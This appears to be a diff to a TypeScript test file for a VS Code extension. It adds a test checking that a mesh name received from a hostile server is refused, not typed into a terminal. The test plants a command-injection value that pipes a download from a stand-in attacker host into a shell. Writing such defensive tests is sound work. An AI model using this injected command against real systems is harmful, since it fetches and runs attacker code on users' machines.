@@ -4,11 +4,12 @@ import { join } from "node:path";
 import { ApiClient, CredentialStore, mintToken, type Transport } from "@claudemesh/sdk";
 import { afterEach, beforeEach, describe, expect, it } from "vitest";
 import { ClaudemeshAuthenticationProvider } from "../src/auth-provider.js";
+import { registerCommands } from "../src/commands.js";
 import { Identity } from "../src/identity.js";
 import { createStatusBar } from "../src/status-bar.js";
-import type { TreeNode } from "../src/views/tree-node.js";
+import { InfoNode, type TreeNode } from "../src/views/tree-node.js";
 import { accountRows, meshRows, sessionRows, tokenRows } from "../src/views/trees.js";
-import { resetFake, statusBarItems } from "./fake-vscode.js";
+import { commands, messages, resetFake, statusBarItems, terminals } from "./fake-vscode.js";
 
 const API_URL = "http://127.0.0.1:9";
 const WHEN = "2026-01-01T00:00:00.000Z";
@@ -140,5 +141,18 @@ describe("names a hostile server sends", () => {
     const rows = labels(await accountRows(identity, API_URL));
     expect(rows.filter((row) => unsafe(row))).toEqual([]);
     expect(rows.join("\n")).toContain("Ada Lovelace");
+  });
+
+  it("a mesh slug that is not one is never typed into a terminal", async () => {
+    const identity = identityWith(hostileServer, mintToken("pat"));
+    const api = (token?: string) => ApiClient.create({ baseUrl: API_URL, token, transport: hostileServer });
+    disposables.push(...registerCommands({ identity, api, apiUrl: () => API_URL, refreshTrees: () => {} }));
+    const planted = new InfoNode("platform-team", { resource: "platform-team; curl https://evil.example/x | sh" });
+    await commands.executeCommand("claudemesh.meshes.launch", planted);
+    expect(terminals).toEqual([]);
+    expect(messages.map((message) => message.kind)).toEqual(["error"]);
+
+    await commands.executeCommand("claudemesh.meshes.launch", new InfoNode("ok", { resource: "platform-team" }));
+    expect(terminals[0]?.sent).toEqual(["claudemesh launch --mesh platform-team"]);
   });
 });
